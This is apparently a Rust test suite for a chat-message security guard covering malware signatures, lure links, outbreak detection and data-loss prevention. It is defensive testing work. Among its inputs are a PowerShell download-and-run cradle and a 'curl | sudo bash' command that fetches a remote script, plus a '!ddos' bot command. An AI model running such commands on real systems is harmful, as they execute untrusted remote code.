//! Tests of the guard pipeline: content extraction, verdicts, the outbreak rules end to end
//! and benign traffic.

use super::*;

pub(crate) const EICAR: &str =
    r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

const MIN: i64 = 60_000;
const T0: i64 = 1_800_000_000_000;

fn jid(s: &str) -> Jid {
    Jid::parse(s).unwrap()
}

pub(crate) fn msg(body: &str) -> Element {
    Element::new("message", ns::CLIENT)
        .with_attr("type", "chat")
        .with_child(Element::new("body", ns::CLIENT).with_text(body))
}

fn rules_dir() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules")
}

pub(crate) fn starter_rules() -> YaraScanner {
    let mut sources = Vec::new();
    for entry in std::fs::read_dir(rules_dir()).unwrap() {
        let p = entry.unwrap().path();
        if p.extension().is_some_and(|e| e == "yar") {
            sources.push((
                p.file_stem().unwrap().to_string_lossy().into_owned(),
                std::fs::read_to_string(&p).unwrap(),
            ));
        }
    }
    sources.sort();
    YaraScanner::new(sources).expect("starter rules compile")
}

fn config() -> GuardConfig {
    GuardConfig {
        trusted_domains: vec!["corp.example".into()],
        ..GuardConfig::default()
    }
}

fn guard() -> Guard {
    Guard::new(config(), Vec::new(), BlocklistSet::new())
}

fn guard_yara() -> Guard {
    Guard::new(
        config(),
        vec![Arc::new(starter_rules())],
        BlocklistSet::new(),
    )
}

async fn send(g: &Guard, from: &str, to: &str, body: &str, at: i64) -> Verdict {
    g.inspect_at(&jid(from), &jid(to), None, &msg(body), at)
        .await
        .unwrap()
}

fn rule_of(v: &Verdict) -> Option<&str> {
    v.finding().map(|f| f.rule.as_str())
}

#[tokio::test]
async fn no_content_is_allowed() {
    let g = guard_yara();
    let composing = Element::new("message", ns::CLIENT).with_child(Element::new(
        "composing",
        "http://jabber.org/protocol/chatstates",
    ));
    assert_eq!(
        g.inspect(
            &jid("a@corp.example"),
            &jid("b@corp.example"),
            None,
            &composing
        )
        .await
        .unwrap(),
        Verdict::Allow
    );
    let receipt = Element::new("message", ns::CLIENT)
        .with_child(Element::new("received", "urn:xmpp:receipts").with_attr("id", "x"));
    assert_eq!(
        g.inspect(
            &jid("a@corp.example"),
            &jid("b@corp.example"),
            None,
            &receipt
        )
        .await
        .unwrap(),
        Verdict::Allow
    );
    let presence = Element::new("presence", ns::CLIENT)
        .with_child(Element::new("status", ns::CLIENT).with_text(EICAR));
    assert_eq!(
        g.inspect(
            &jid("a@corp.example"),
            &jid("b@corp.example"),
            None,
            &presence
        )
        .await
        .unwrap(),
        Verdict::Allow
    );
    assert_eq!(
        send(&g, "a@corp.example", "b@corp.example", "   ", T0).await,
        Verdict::Allow
    );
}

#[tokio::test]
async fn eicar_in_text_is_blocked() {
    let g = guard_yara();
    let v = send(
        &g,
        "a@corp.example/r",
        "b@corp.example",
        &format!("try this {EICAR} now"),
        T0,
    )
    .await;
    let Verdict::Block(f) = v else {
        panic!("{v:?}")
    };
    assert_eq!(f.rule, "signature");
    assert_eq!(
        f.evidence.signature.as_deref(),
        Some("yara:EICAR_Test_File")
    );
    // In the subject and in XHTML-IM only, too.
    let subj = Element::new("message", ns::CLIENT)
        .with_child(Element::new("subject", ns::CLIENT).with_text(EICAR));
    assert_eq!(
        rule_of(
            &g.inspect(&jid("a@corp.example"), &jid("b@corp.example"), None, &subj)
                .await
                .unwrap()
        ),
        Some("signature")
    );
    let html = Element::new("message", ns::CLIENT)
        .with_child(Element::new("body", ns::CLIENT).with_text("see below"))
        .with_child(
            Element::new("html", ns::XHTML_IM).with_child(
                Element::new("body", ns::XHTML)
                    .with_child(Element::new("p", ns::XHTML).with_text(EICAR)),
            ),
        );
    assert_eq!(
        rule_of(
            &g.inspect(&jid("a@corp.example"), &jid("b@corp.example"), None, &html)
                .await
                .unwrap()
        ),
        Some("signature")
    );
}

#[tokio::test]
async fn eicar_and_lures_in_files() {
    let g = guard_yara();
    let v = g.scan_file("notes.txt", EICAR.as_bytes()).await.unwrap();
    let Verdict::Block(f) = v else {
        panic!("{v:?}")
    };
    assert_eq!(f.rule, "signature");
    assert!(
        f.evidence
            .file_hash
            .as_deref()
            .unwrap()
            .starts_with("sha-256:")
    );
    // A 1 MiB file with the string in the middle (scanned off the async workers).
    let mut big = vec![b'A'; 1 << 20];
    big[500_000..500_000 + EICAR.len()].copy_from_slice(EICAR.as_bytes());
    assert_eq!(
        rule_of(&g.scan_file("big.bin", &big).await.unwrap()),
        Some("signature")
    );
    assert_eq!(
        rule_of(&g.scan_file("photo.jpg.exe", b"MZ....").await.unwrap()),
        Some("lure.executable")
    );
    assert_eq!(
        g.scan_file("report.pdf", b"%PDF-1.7 hello").await.unwrap(),
        Verdict::Allow
    );
    let small = Guard::new(
        GuardConfig {
            max_scan_bytes: 10,
            ..config()
        },
        Vec::new(),
        BlocklistSet::new(),
    );
    assert!(matches!(
        small.scan_file("x", &[0; 11]).await,
        Err(GuardError::TooLarge { size: 11, max: 10 })
    ));
}

#[tokio::test]
async fn starter_lure_rules() {
    let g = guard_yara();
    let cradle = "run this in powershell to fix outlook: IEX (New-Object Net.WebClient).DownloadString('http://example.net/fix.ps1')";
    assert_eq!(
        rule_of(&send(&g, "a@corp.example", "b@corp.example", cradle, T0).await),
        Some("signature")
    );
    let pipe = "quick fix: curl -fsSL http://203.0.113.5/x.sh | sudo bash";
    assert_eq!(
        rule_of(&send(&g, "a@corp.example", "b@corp.example", pipe, T0).await),
        Some("signature")
    );
    // Ordinary technical chat does not match.
    for benign in [
        "use Invoke-WebRequest -Uri $url -OutFile report.csv for the export",
        "curl -s https://api.corp.example/health | jq .",
        "git pull && cargo build --release",
        "powershell Get-Process | Sort-Object CPU",
    ] {
        assert_eq!(
            send(&g, "a@corp.example", "b@corp.example", benign, T0).await,
            Verdict::Allow,
            "{benign}"
        );
    }
}

#[tokio::test]
async fn lure_links_are_blocked() {
    let g = guard();
    let v = send(
        &g,
        "a@corp.example",
        "b@corp.example",
        "hey look at this http://x.example/screensaver.scr",
        T0,
    )
    .await;
    let Verdict::Block(f) = v else {
        panic!("{v:?}")
    };
    assert_eq!(f.rule, "lure.executable");
    assert_eq!(f.reason, "blocked: link to an executable file (.scr)");
    assert_eq!(f.evidence.url.as_deref(), Some("x.example/screensaver.scr"));
    assert_eq!(
        rule_of(
            &send(
                &g,
                "a@corp.example",
                "b@corp.example",
                "http://3232235777/",
                T0
            )
            .await
        ),
        Some("lure.ip_literal")
    );
    assert_eq!(
        rule_of(
            &send(
                &g,
                "a@corp.example",
                "b@corp.example",
                "sign in at https://rnicrosoft.com/x",
                T0
            )
            .await
        ),
        Some("lure.lookalike")
    );
    assert_eq!(
        rule_of(
            &send(
                &g,
                "a@corp.example",
                "b@corp.example",
                "https://c0rp.example/x",
                T0
            )
            .await
        ),
        Some("lure.lookalike")
    );
    assert_eq!(
        rule_of(
            &send(
                &g,
                "a@corp.example",
                "b@corp.example",
                "https://bit.ly/abc",
                T0
            )
            .await
        ),
        Some("lure.shortener")
    );
    // Links in XHTML-IM href, OOB and file-sharing sources.
    let html = Element::new("message", ns::CLIENT)
        .with_child(Element::new("body", ns::CLIENT).with_text("invoice"))
        .with_child(
            Element::new("html", ns::XHTML_IM).with_child(
                Element::new("body", ns::XHTML).with_child(
                    Element::new("a", ns::XHTML)
                        .with_attr("href", "http://x.example/inv.pdf.exe")
                        .with_text("invoice"),
                ),
            ),
        );
    assert_eq!(
        rule_of(
            &g.inspect(&jid("a@corp.example"), &jid("b@corp.example"), None, &html)
                .await
                .unwrap()
        ),
        Some("lure.executable")
    );
    let oob =
        Element::new("message", ns::CLIENT).with_child(Element::new("x", ns::OOB).with_child(
            Element::new("url", ns::OOB).with_text("https://upload.example/abc/update.msi"),
        ));
    assert_eq!(
        rule_of(
            &g.inspect(&jid("a@corp.example"), &jid("b@corp.example"), None, &oob)
                .await
                .unwrap()
        ),
        Some("lure.executable")
    );
    let sfs = Element::new("message", ns::CLIENT).with_child(
        Element::new("file-sharing", ns::SFS)
            .with_child(
                Element::new("file", "urn:xmpp:file:metadata:0")
                    .with_child(
                        Element::new("name", "urn:xmpp:file:metadata:0")
                            .with_text("holiday.jpg.scr"),
                    )
                    .with_child(
                        Element::new("hash", ns::HASHES)
                            .with_attr("algo", "sha-256")
                            .with_text("AAAA"),
                    ),
            )
            .with_child(
                Element::new("sources", ns::SFS).with_child(
                    Element::new("url-data", "http://jabber.org/protocol/url-data")
                        .with_attr("target", "https://upload.corp.example/f/1"),
                ),
            ),
    );
    let v = g
        .inspect(&jid("a@corp.example"), &jid("b@corp.example"), None, &sfs)
        .await
        .unwrap();
    assert_eq!(rule_of(&v), Some("lure.executable"), "{v:?}");
    assert_eq!(
        v.finding().unwrap().evidence.file_hash.as_deref(),
        Some("sha-256:AAAA")
    );
}

#[tokio::test]
async fn blocklists_and_reload() {
    let g = guard();
    assert_eq!(
        send(
            &g,
            "a@corp.example",
            "b@corp.example",
            "https://cdn.evil.example/x",
            T0
        )
        .await,
        Verdict::Allow
    );
    let mut b = BlocklistSet::new();
    b.add_plain("evil.example\n");
    g.set_blocklists(b);
    let v = send(
        &g,
        "a@corp.example",
        "b@corp.example",
        "https://cdn.evil.example/x",
        T0,
    )
    .await;
    assert_eq!(rule_of(&v), Some("blocklist"));
    g.set_blocklists(BlocklistSet::new());
    assert_eq!(
        send(
            &g,
            "a@corp.example",
            "b@corp.example",
            "https://cdn.evil.example/x",
            T0
        )
        .await,
        Verdict::Allow
    );
}

#[tokio::test]
async fn blast_quarantines_at_threshold_with_varied_text() {
    let g = guard();
    let names = ["bob", "carol", "dave", "erin", "frank", "grace"];
    let texts = [
        "hey {}, look https://Photos.Example.net/p/123?utm_source=x",
        "{}!! look http://photos.example.net/p/123",
        "look {} https://photos.example.net/p/123/.",
    ];
    let mut verdicts = Vec::new();
    for (i, n) in names.iter().enumerate() {
        let body = texts[i % 3].replace("{}", n);
        verdicts.push(
            send(
                &g,
                "mallory@corp.example/pc",
                &format!("{n}@corp.example"),
                &body,
                T0 + i as i64 * 90_000,
            )
            .await,
        );
    }
    assert!(verdicts[..4].iter().all(Verdict::is_allow), "{verdicts:?}");
    let Verdict::Quarantine(f) = &verdicts[4] else {
        panic!("{:?}", verdicts[4])
    };
    assert_eq!(f.rule, "outbreak.blast");
    assert_eq!(f.evidence.url.as_deref(), Some("photos.example.net/p/123"));
    assert_eq!(f.evidence.chain.len(), 5);
    assert_eq!(f.evidence.chain[0].sender, "mallory@corp.example");
    assert_eq!(f.evidence.chain[0].recipient, "bob@corp.example");
    assert!(matches!(verdicts[5], Verdict::Quarantine(_)));
    assert_eq!(g.flagged_accounts(), ["mallory@corp.example"]);
}

#[tokio::test]
async fn blast_escalates_lures_and_respects_window() {
    let g = guard();
    for i in 0..4 {
        let v = send(
            &g,
            "m@corp.example",
            &format!("u{i}@corp.example"),
            "http://x.example/a.scr",
            T0 + i,
        )
        .await;
        assert_eq!(rule_of(&v), Some("lure.executable"));
        assert!(matches!(v, Verdict::Block(_)));
    }
    let v = send(
        &g,
        "m@corp.example",
        "u4@corp.example",
        "http://x.example/a.scr",
        T0 + 5,
    )
    .await;
    let Verdict::Quarantine(f) = v else {
        panic!("{v:?}")
    };
    assert_eq!(f.rule, "outbreak.blast");
    assert!(
        f.reason.contains("link to an executable file (.scr)"),
        "{}",
        f.reason
    );
    // Slow pacing beyond the window is not a blast.
    let g = guard();
    for i in 0..8 {
        let v = send(
            &g,
            "p@corp.example",
            &format!("u{i}@corp.example"),
            "https://news.example/story",
            T0 + i * 3 * MIN,
        )
        .await;
        assert!(v.is_allow(), "{i}: {v:?}");
    }
}

#[tokio::test]
async fn trusted_links_and_text_never_blast() {
    let g = guard();
    for i in 0..20 {
        let to = format!("u{i}@corp.example");
        assert!(
            send(
                &g,
                "boss@corp.example",
                &to,
                "all hands agenda: https://wiki.corp.example/allhands",
                T0 + i
            )
            .await
            .is_allow()
        );
        assert!(
            send(
                &g,
                "boss@corp.example",
                &to,
                "Happy new year! Thanks for all the great work this year, team.",
                T0 + 100 + i
            )
            .await
            .is_allow()
        );
    }
}

#[tokio::test]
async fn auto_reply_worm() {
    let g = guard();
    let payload = "lol is this you? http://pics.example/album/77";
    let mut last = Verdict::Allow;
    for (i, n) in ["ann", "ben", "cat"].iter().enumerate() {
        let t = T0 + i as i64 * MIN;
        assert!(
            send(
                &g,
                &format!("{n}@corp.example"),
                "zombie@corp.example",
                "hi, how are you?",
                t
            )
            .await
            .is_allow()
        );
        last = send(
            &g,
            "zombie@corp.example",
            &format!("{n}@corp.example"),
            payload,
            t + 2_000,
        )
        .await;
        if i < 2 {
            assert!(last.is_allow(), "{i}: {last:?}");
        }
    }
    let Verdict::Quarantine(f) = last else {
        panic!("{last:?}")
    };
    assert_eq!(f.rule, "outbreak.auto_reply");
    assert_eq!(f.evidence.chain.len(), 6);
    assert_eq!(f.evidence.chain[0].sender, "ann@corp.example");

    // Late answers (beyond 30 s) are human.
    let g = guard();
    for (i, n) in ["ann", "ben", "cat", "dan"].iter().enumerate() {
        let t = T0 + i as i64 * MIN;
        send(
            &g,
            &format!("{n}@corp.example"),
            "human@corp.example",
            "hi, how are you?",
            t,
        )
        .await;
        assert!(
            send(
                &g,
                "human@corp.example",
                &format!("{n}@corp.example"),
                payload,
                t + 45_000
            )
            .await
            .is_allow()
        );
    }
    // Out-of-office text replies are not payloads.
    let g = guard();
    for (i, n) in ["ann", "ben", "cat", "dan", "eve"].iter().enumerate() {
        let t = T0 + i as i64 * MIN;
        send(
            &g,
            &format!("{n}@corp.example"),
            "ooo@corp.example",
            "are you joining the call?",
            t,
        )
        .await;
        let v = send(
            &g,
            "ooo@corp.example",
            &format!("{n}@corp.example"),
            "I am out of the office until Monday, please contact the help desk.",
            t + 1_000,
        )
        .await;
        assert!(v.is_allow(), "{v:?}");
    }
}

#[tokio::test]
async fn epidemic_chain() {
    let g = guard();
    let body = |n: &str| format!("{n} you have to see this http://funny.example/v/9");
    // a -> b, b -> c, c -> d: the third account in the chain trips the rule.
    assert!(
        send(&g, "a@corp.example", "b@corp.example", &body("b"), T0)
            .await
            .is_allow()
    );
    assert!(
        send(
            &g,
            "b@corp.example",
            "c@corp.example",
            &body("c"),
            T0 + 5 * MIN
        )
        .await
        .is_allow()
    );
    let v = send(
        &g,
        "c@corp.example",
        "d@corp.example",
        &body("d"),
        T0 + 9 * MIN,
    )
    .await;
    let Verdict::Quarantine(f) = v else {
        panic!("{v:?}")
    };
    assert_eq!(f.rule, "outbreak.epidemic");
    let hops: Vec<(&str, &str)> = f
        .evidence
        .chain
        .iter()
        .map(|l| (l.sender.as_str(), l.recipient.as_str()))
        .collect();
    assert_eq!(
        hops,
        [
            ("a@corp.example", "b@corp.example"),
            ("b@corp.example", "c@corp.example"),
            ("c@corp.example", "d@corp.example")
        ]
    );
    assert_eq!(
        f.evidence.accounts,
        ["a@corp.example", "b@corp.example", "c@corp.example"]
    );
    // Every further spreader is caught while the outbreak lasts.
    let v = send(
        &g,
        "d@corp.example",
        "e@corp.example",
        &body("e"),
        T0 + 10 * MIN,
    )
    .await;
    assert_eq!(rule_of(&v), Some("outbreak.epidemic"));

    // Text-only chain letters too.
    let g = guard();
    let letter = "forward this to everyone you know or the office printer will jam forever";
    assert!(
        send(&g, "a@corp.example", "b@corp.example", letter, T0)
            .await
            .is_allow()
    );
    assert!(
        send(
            &g,
            "b@corp.example",
            "c@corp.example",
            &format!("hi c, {letter}"),
            T0 + MIN
        )
        .await
        .is_allow()
    );
    assert_eq!(
        rule_of(&send(&g, "c@corp.example", "d@corp.example", letter, T0 + 2 * MIN).await),
        Some("outbreak.epidemic")
    );

    // Beyond the window it is no epidemic.
    let g = guard();
    assert!(
        send(&g, "a@corp.example", "b@corp.example", &body("b"), T0)
            .await
            .is_allow()
    );
    assert!(
        send(
            &g,
            "b@corp.example",
            "c@corp.example",
            &body("c"),
            T0 + 70 * MIN
        )
        .await
        .is_allow()
    );
    assert!(
        send(
            &g,
            "c@corp.example",
            "d@corp.example",
            &body("d"),
            T0 + 140 * MIN
        )
        .await
        .is_allow()
    );
}

#[tokio::test]
async fn room_bots() {
    let g = guard();
    let room = jid("ops@conference.corp.example");
    let post = |from: &str, text: &str, at: i64| {
        let g = &g;
        let room = room.clone();
        let from = jid(from);
        let text = text.to_owned();
        async move {
            let stanza = Element::new("message", ns::CLIENT)
                .with_attr("type", "groupchat")
                .with_child(Element::new("body", ns::CLIENT).with_text(text));
            g.inspect_at(&from, &room, Some(&room), &stanza, at)
                .await
                .unwrap()
        }
    };
    // Humans: greetings, /me, short replies, the same "+1" — never flagged.
    for (i, t) in [
        "good morning!",
        "/me waves",
        "+1",
        "+1",
        "+1",
        "+1",
        "lgtm",
        "ok",
    ]
    .iter()
    .enumerate()
    {
        assert!(
            post(&format!("h{i}@corp.example"), t, T0 + i as i64)
                .await
                .is_allow()
        );
    }
    for i in 0..3 {
        assert!(
            post(
                &format!("bot{i}@corp.example"),
                "!ddos 198.51.100.7 443",
                T0 + 1_000 + i
            )
            .await
            .is_allow()
        );
    }
    let v = post("bot3@corp.example", "!DDOS 198.51.100.7   443", T0 + 2_000).await;
    let Verdict::Quarantine(f) = v else {
        panic!("{v:?}")
    };
    assert_eq!(f.rule, "outbreak.room_bots");
    assert_eq!(f.evidence.accounts.len(), 4);
    assert!(f.evidence.fingerprint.is_some());
    // Outside the window: fine.
    for i in 0..6 {
        assert!(
            post(
                &format!("slow{i}@corp.example"),
                "/join #warez-drop now",
                T0 + i * 3 * MIN
            )
            .await
            .is_allow()
        );
    }
}

#[tokio::test]
async fn busy_team_is_never_flagged() {
    let g = guard_yara();
    let team: Vec<String> = [
        "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
    ]
    .iter()
    .map(|n| format!("{n}@corp.example"))
    .collect();
    let chatter = [
        "hi {}!",
        "good morning {} :)",
        "hey {}, do you have a minute for the review?",
        "can you look at https://git.corp.example/infra/pull/42 when you get a chance",
        "lunch at 12:30? 🍜🍣",
        "fn main() {\n    println!(\"hello, world\");\n}",
        "```\nSELECT id, name FROM users WHERE active = 1;\n```",
        "Guten Morgen! Hast du die Zahlen für das Quartal schon?",
        "Bonjour, la réunion est déplacée à 15h.",
        "おはようございます、今日のミーティングは何時ですか？",
        "Привет! Посмотри, пожалуйста, мой отчёт.",
        "مرحبا، هل يمكنك مراجعة المستند؟",
        "ok",
        "thanks!",
        "👍",
        "I pushed the fix, the build should be green in ten minutes or so. Let me know if it breaks again and I will take another look after the standup.",
    ];
    let mut t = T0;
    let mut count = 0;
    for round in 0..6 {
        for (i, from) in team.iter().enumerate() {
            for k in 1..4 {
                let to = &team[(i + k + round) % team.len()];
                let name = to.split('@').next().unwrap();
                let line = chatter[(i * 3 + k + round) % chatter.len()].replace("{}", name);
                t += 700;
                let v = send(&g, from, to, &line, t).await;
                assert!(v.is_allow(), "{from} -> {to}: {line:?}: {v:?}");
                // Replies within seconds, as people do.
                let v = send(&g, to, from, "sure, give me five minutes", t + 3_000).await;
                assert!(v.is_allow(), "{v:?}");
                count += 2;
            }
        }
    }
    // The same external link to three colleagues, twice in the hour: fine.
    for k in 0..3 {
        let v = send(
            &g,
            "alice@corp.example",
            &team[k + 1],
            "interesting read: https://news.example/2026/ai-and-you",
            t + k as i64,
        )
        .await;
        assert!(v.is_allow(), "{v:?}");
    }
    // An external link forwarded once (a -> b -> c) is no epidemic.
    assert!(
        send(
            &g,
            "bob@corp.example",
            "erin@corp.example",
            "interesting read: https://news.example/2026/ai-and-you",
            t + 10_000
        )
        .await
        .is_allow()
    );
    assert!(count > 300);
    assert!(g.flagged_accounts().is_empty());
}

#[tokio::test]
async fn disabled_guard_and_log_action() {
    let g = Guard::new(
        GuardConfig {
            enabled: false,
            ..config()
        },
        Vec::new(),
        BlocklistSet::new(),
    );
    assert!(
        send(
            &g,
            "a@corp.example",
            "b@corp.example",
            "http://x.example/a.exe",
            T0
        )
        .await
        .is_allow()
    );
    let mut c = config();
    c.lure.action = Action::Log;
    c.blast.action = Action::Log;
    let g = Guard::new(c, Vec::new(), BlocklistSet::new());
    for i in 0..7 {
        assert!(
            send(
                &g,
                "a@corp.example",
                &format!("u{i}@corp.example"),
                "http://x.example/a.exe",
                T0 + i
            )
            .await
            .is_allow()
        );
    }
}

struct Stuck;

#[async_trait::async_trait]
impl Scanner for Stuck {
    fn name(&self) -> &str {
        "stuck"
    }
    async fn scan(&self, _: &[u8]) -> Result<Option<String>, GuardError> {
        tokio::time::sleep(Duration::from_secs(60)).await;
        Ok(None)
    }
}

struct Broken;

#[async_trait::async_trait]
impl Scanner for Broken {
    fn name(&self) -> &str {
        "broken"
    }
    async fn scan(&self, _: &[u8]) -> Result<Option<String>, GuardError> {
        Err(GuardError::Engine("down".into()))
    }
}

#[tokio::test]
async fn engine_failures_fail_closed() {
    let c = GuardConfig {
        scan_timeout_ms: 50,
        ..config()
    };
    let g = Guard::new(c.clone(), vec![Arc::new(Stuck)], BlocklistSet::new());
    assert!(matches!(
        g.inspect(
            &jid("a@corp.example"),
            &jid("b@corp.example"),
            None,
            &msg("hello there")
        )
        .await,
        Err(GuardError::Timeout)
    ));
    let g = Guard::new(c, vec![Arc::new(Broken)], BlocklistSet::new());
    assert!(matches!(
        g.scan_file("x", b"data").await,
        Err(GuardError::Engine(_))
    ));
    // No content: no engine call at all.
    let receipt = Element::new("message", ns::CLIENT)
        .with_child(Element::new("received", "urn:xmpp:receipts"));
    assert!(
        g.inspect(
            &jid("a@corp.example"),
            &jid("b@corp.example"),
            None,
            &receipt
        )
        .await
        .unwrap()
        .is_allow()
    );
}

#[test]
fn guard_is_send_sync() {
    fn check<T: Send + Sync>() {}
    check::<Guard>();
    check::<Arc<Guard>>();
}

#[test]
fn evidence_serializes() {
    let f = Finding {
        rule: "outbreak.blast".into(),
        reason: "x".into(),
        evidence: Evidence {
            chain: vec![ChainLink {
                sender: "a".into(),
                recipient: "b".into(),
                at_ms: 1,
            }],
            ..Evidence::default()
        },
    };
    let j = serde_json::to_string(&f.evidence).unwrap();
    assert!(
        j.contains("\"chain\":[{\"sender\":\"a\",\"recipient\":\"b\",\"at_ms\":1}]"),
        "{j}"
    );
}

#[tokio::test]
async fn dlp_blocks_sensitive_data_leaving_the_company_only() {
    let g = guard();
    let card = "here is the corporate card: 4111 1111 1111 1111";
    // Inside the company (and its subdomains, e.g. rooms): not a leak.
    assert_eq!(send(&g, "alice@corp.example", "bob@corp.example", card, T0).await, Verdict::Allow);
    assert_eq!(send(&g, "alice@corp.example", "team@conference.corp.example", card, T0).await, Verdict::Allow);
    // To a partner: blocked, with a reason that names the kind of data but not the data.
    let v = send(&g, "alice@corp.example", "carol@partner.example", card, T0 + 1).await;
    assert_eq!(rule_of(&v), Some("dlp.card_number"));
    let f = v.finding().unwrap();
    assert!(f.reason.contains("payment card number") && f.reason.contains("partner.example"), "{}", f.reason);
    assert!(!f.reason.contains("4111 1111"), "{}", f.reason);
    assert_eq!(f.evidence.signature.as_deref(), Some("dlp:**** **** **** 1111"));
    // Ordinary chat to a partner flows.
    assert_eq!(
        send(&g, "alice@corp.example", "carol@partner.example", "see you at 10:30, room 4-112", T0 + 2).await,
        Verdict::Allow
    );
    // A custom pattern that does not compile holds outbound messages (fail closed), not local ones.
    let mut c = config();
    c.dlp.custom = vec![dlp::CustomPattern { name: "broken".into(), pattern: "(".into() }];
    let g = Guard::new(c, Vec::new(), BlocklistSet::new());
    assert!(g.inspect_at(&jid("alice@corp.example"), &jid("carol@partner.example"), None, &msg("hi there"), T0).await.is_err());
    assert_eq!(send(&g, "alice@corp.example", "bob@corp.example", "hi there", T0).await, Verdict::Allow);
    // Log-only mode lets it through.
    let mut c = config();
    c.dlp.action = Action::Log;
    let g = Guard::new(c, Vec::new(), BlocklistSet::new());
    assert_eq!(send(&g, "alice@corp.example", "carol@partner.example", card, T0).await, Verdict::Allow);
}
